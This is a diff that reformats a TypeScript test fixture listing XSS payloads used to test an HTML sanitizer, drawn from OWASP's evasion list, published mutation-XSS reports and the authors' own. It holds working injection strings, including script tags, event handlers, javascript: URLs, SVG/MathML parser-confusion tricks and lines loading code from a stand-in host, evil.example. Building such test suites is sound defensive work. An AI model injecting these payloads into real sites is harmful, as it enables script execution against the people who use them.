@@ -1,21 +1,48 @@
-/** Attacks on HTML sanitizers: OWASP’s filter evasion list, published mutation XSS (mXSS), and our own. */
+/**
+ * Attacks on HTML sanitizers: OWASP’s filter evasion list, published mutation XSS (mXSS), and our
+ * own.
+ */
 
 /** Uncleaned, each runs a script, loads or frames a resource, or takes over the page. */
 export const xssPayloads: readonly string[] = [
   // Scripts and their disguises.
-  ...['<script>alert(1)</script>', '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>', '<ScRiPt>alert(1)</sCrIpT>'],
-  ...['<script/xss src="https://evil.example/x.js"></script>', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
+  ...[
+    '<script>alert(1)</script>',
+    '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
+    '<ScRiPt>alert(1)</sCrIpT>',
+  ],
+  ...[
+    '<script/xss src="https://evil.example/x.js"></script>',
+    '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  ],
   ...['<<script>alert(1);//<</script>', '<script src=https://evil.example/x.js?<b>'],
   ...['<script>a=/xss/\nalert(a.source)</script', '</title><script>alert(1)</script>'],
-  ...['<script type="module">import "https://evil.example"</script>', '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>'],
+  ...[
+    '<script type="module">import "https://evil.example"</script>',
+    '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
+  ],
   // Event handlers.
-  ...['<img src=x onerror=alert(1)>', '<img src=x:alert(1) onerror=eval(src)>', '<img """><script>alert(1)</script>">'],
-  ...['<img/src="x"/onerror=alert(1)>', '<img src=`x`onerror=alert(1)>', '<img src=x onerror\n=\nalert(1)>'],
+  ...[
+    '<img src=x onerror=alert(1)>',
+    '<img src=x:alert(1) onerror=eval(src)>',
+    '<img """><script>alert(1)</script>">',
+  ],
+  ...[
+    '<img/src="x"/onerror=alert(1)>',
+    '<img src=`x`onerror=alert(1)>',
+    '<img src=x onerror\n=\nalert(1)>',
+  ],
   ...['<body onload=alert(1)>', '<body background="javascript:alert(1)">'],
   ...['<p onmouseover="alert(1)" onclick=alert(2)>x</p>'],
   ...['<details open ontoggle=alert(1)><summary>x</summary></details>'],
-  ...['<video src=x onerror=alert(1)><source onerror=alert(2)></video>', '<audio src=x onloadstart=alert(1) autoplay>'],
-  ...['<marquee onstart=alert(1)>x</marquee>', '<a onfocus=alert(1) autofocus tabindex=1 href=#>x</a>'],
+  ...[
+    '<video src=x onerror=alert(1)><source onerror=alert(2)></video>',
+    '<audio src=x onloadstart=alert(1) autoplay>',
+  ],
+  ...[
+    '<marquee onstart=alert(1)>x</marquee>',
+    '<a onfocus=alert(1) autofocus tabindex=1 href=#>x</a>',
+  ],
   ...['<div style="animation-name:x" onanimationstart=alert(1)>x</div>'],
   ...['<img src=1 href=1 onerror="javascript:alert(1)"></img>'],
   ...['<table onpointerenter=alert(1)><td background="javascript:alert(1)">x</td></table>'],
@@ -30,14 +57,19 @@ export const xssPayloads: readonly string[] = [
   ...['<a href="javascript&colon;alert(1)">x</a>', '<a href="JaVaScRiPt:alert(1)">x</a>'],
   ...['<a href="vbscript:msgbox(1)">x</a>'],
   ...['<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
-  ...['<a href="view-source:javascript:alert(1)">x</a>', '<a href="feed:javascript:alert(1)">x</a>'],
+  ...[
+    '<a href="view-source:javascript:alert(1)">x</a>',
+    '<a href="feed:javascript:alert(1)">x</a>',
+  ],
   ...['<a href="blob:https://evil.example/1">x</a>', '<img src="javascript:alert(1)">'],
   ...['<img src="data:image/svg+xml,<svg onload=alert(1)>">'],
   ...['<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">'],
   ...['<img srcset="javascript:alert(1) 1x, data:image/svg+xml;base64,PHN2Zz4= 2x" src=x>'],
   ...['<video poster="javascript:alert(1)" src="data:video/mp4,x"></video>'],
   ...['<blockquote cite="javascript:alert(1)">x</blockquote>'],
-  ...['<a xlink:href="javascript:alert(1)" ping="https://evil.example" target="_top" download>x</a>'],
+  ...[
+    '<a xlink:href="javascript:alert(1)" ping="https://evil.example" target="_top" download>x</a>',
+  ],
   ...['<a href="https://safe.example" href="javascript:alert(1)">x</a>'],
   // Frames, objects, forms, document metadata.
   ...['<iframe src="javascript:alert(1)"></iframe>'],
@@ -52,23 +84,37 @@ export const xssPayloads: readonly string[] = [
   ...['<frameset><frame src="javascript:alert(1)"></frameset>'],
   ...['<object data="javascript:alert(1)"><param name=x value=y>x</object>'],
   ...['<object type="text/x-scriptlet" data="https://evil.example/x.html"></object>'],
-  ...['<embed src="https://evil.example/x.swf" allowscriptaccess=always>', '<applet code="x.class">x</applet>'],
+  ...[
+    '<embed src="https://evil.example/x.swf" allowscriptaccess=always>',
+    '<applet code="x.class">x</applet>',
+  ],
   ...[
     '<form action="javascript:alert(1)"><input type=submit><button formaction="javascript:alert(1)">x</button></form>',
   ],
   ...['<isindex type=image src=1 onerror=alert(1)>'],
   ...['<input type="image" src="javascript:alert(1)" autofocus onfocus=alert(1)>'],
   ...['<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
-  ...['<link rel="stylesheet" href="javascript:alert(1)">', '<link rel=import href="https://evil.example">'],
+  ...[
+    '<link rel="stylesheet" href="javascript:alert(1)">',
+    '<link rel=import href="https://evil.example">',
+  ],
   ...['<base href="javascript:alert(1)//"><a href="x">x</a>'],
   ...['<dialog open id=body><form method=dialog name=getElementById>x</form></dialog>'],
-  ...['<portal src="https://evil.example"></portal><fencedframe src="https://evil.example"></fencedframe>'],
+  ...[
+    '<portal src="https://evil.example"></portal><fencedframe src="https://evil.example"></fencedframe>',
+  ],
   // Styles.
   ...['<style>@import "https://evil.example/x.css";</style>'],
-  ...['<div style="background:url(javascript:alert(1))">x</div>', '<div style="width:expression(alert(1))">x</div>'],
+  ...[
+    '<div style="background:url(javascript:alert(1))">x</div>',
+    '<div style="width:expression(alert(1))">x</div>',
+  ],
   ...['<p style="position:fixed;inset:0;z-index:9">x</p>'],
   // Comments and declarations.
-  ...['<!--[if gte IE 4]><script>alert(1)</script><![endif]-->', '<!--><img src=x onerror=alert(1)>-->'],
+  ...[
+    '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
+    '<!--><img src=x onerror=alert(1)>-->',
+  ],
   ...['<!-- --!><img src=x onerror=alert(1)> -->', '<![CDATA[<script>alert(1)</script>]]>'],
   ...['<?xml version="1.0"?><?php echo 1 ?><! x><script>alert(1)</script>'],
   ...['<?xml-stylesheet href="javascript:alert(1)"?>x'],
@@ -79,12 +125,20 @@ export const xssPayloads: readonly string[] = [
   ...['<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></svg>'],
   ...['<svg><style><img src=x onerror=alert(1)></style></svg>'],
   ...['<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
-  ...['<svg><desc><img src=x onerror=alert(1)></desc><title><style></title><img src=x onerror=alert(2)></style>'],
-  ...['<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>'],
+  ...[
+    '<svg><desc><img src=x onerror=alert(1)></desc><title><style></title><img src=x onerror=alert(2)></style>',
+  ],
+  ...[
+    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
+  ],
   ...['<svg><p><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'],
   ...['<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>'],
-  ...['<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>'],
-  ...['<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'],
+  ...[
+    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
+  ],
+  ...[
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  ],
   ...['<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'],
   ...['<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=alert(1)">'],
   ...['<math><mi><table><mi><mglyph><style><img src=x onerror=alert(1)></style>'],
@@ -97,25 +151,37 @@ export const xssPayloads: readonly string[] = [
     '<svg><template><style><img src=x onerror=alert(1)>',
   ...['<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>'],
   ...['<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>'],
-  ...['<title><p title="</title><img src=x onerror=alert(1)>">', '<plaintext><script>alert(1)</script>'],
+  ...[
+    '<title><p title="</title><img src=x onerror=alert(1)>">',
+    '<plaintext><script>alert(1)</script>',
+  ],
   ...['<listing>&lt;img src=x onerror=alert(1)&gt;</listing>'],
   ...['&lt;script&gt;alert(1)&lt;/script&gt;&amp;lt;script&amp;gt;'],
   ...['<select><option><style></option></select><img src=x onerror=alert(1)></style>'],
   ...['<select><iframe><script>alert(1)</script></iframe></select>'],
-  ...['<table><tr><td><svg><desc><td><img src=x onerror=alert(1)></td></desc></svg></td></tr></table>'],
+  ...[
+    '<table><tr><td><svg><desc><td><img src=x onerror=alert(1)></td></desc></svg></td></tr></table>',
+  ],
   ...['<a><table><a href="javascript:alert(1)"><svg><style></a><img src=x onerror=alert(1)>'],
-  ...['<p><table><template><tr><td><script>alert(1)</script></td></tr></template><p onclick=alert(1)>x'],
+  ...[
+    '<p><table><template><tr><td><script>alert(1)</script></td></tr></template><p onclick=alert(1)>x',
+  ],
   ...['<b><p><b id=x onclick=alert(1)></p></b><svg/onload=alert(1)>'],
   // Attributes that end early, and names from JavaScript’s own objects.
   ...['<p title="&quot;><script>alert(1)</script>">x</p>'],
   ...['<a title="x&quot; onmouseover=&quot;alert(1)" href="/x">x</a>'],
   ...["<img alt='\"><script>alert(1)</script>' src=x>", '<img alt="``onload=alert(1)" src=x>'],
   ...['<img src="x&quot; onerror=&quot;alert(1)">'],
-  ...['<p __proto__=x constructor=y toString=z>x</p><constructor>x</constructor><__proto__>x</__proto__>'],
-  ...['<a lang="x" xml:lang="y" xmlns="z" is="x-y" slot="s" part="p" id="location" name="cookie" class="c">x</a>'],
+  ...[
+    '<p __proto__=x constructor=y toString=z>x</p><constructor>x</constructor><__proto__>x</__proto__>',
+  ],
+  ...[
+    '<a lang="x" xml:lang="y" xmlns="z" is="x-y" slot="s" part="p" id="location" name="cookie" class="c">x</a>',
+  ],
   ...['<custom-element onclick=alert(1)><slot>x</slot></custom-element>'],
   ...['<a href="https://x.example/?\u2028<script>alert(1)</script>">x</a>'],
-  // MathML that stays, and what parsers made of HTML in it: reports on DOMPurify and the MathML Core specification.
+  // MathML that stays, and what parsers made of HTML in it: reports on DOMPurify and the MathML
+  // Core specification.
   '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
   '<math><mtext><option><x><option></option><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>">',
   '<math><annotation-xml encoding="text/html"><style><img src onerror=alert(1)></style></annotation-xml></math>',
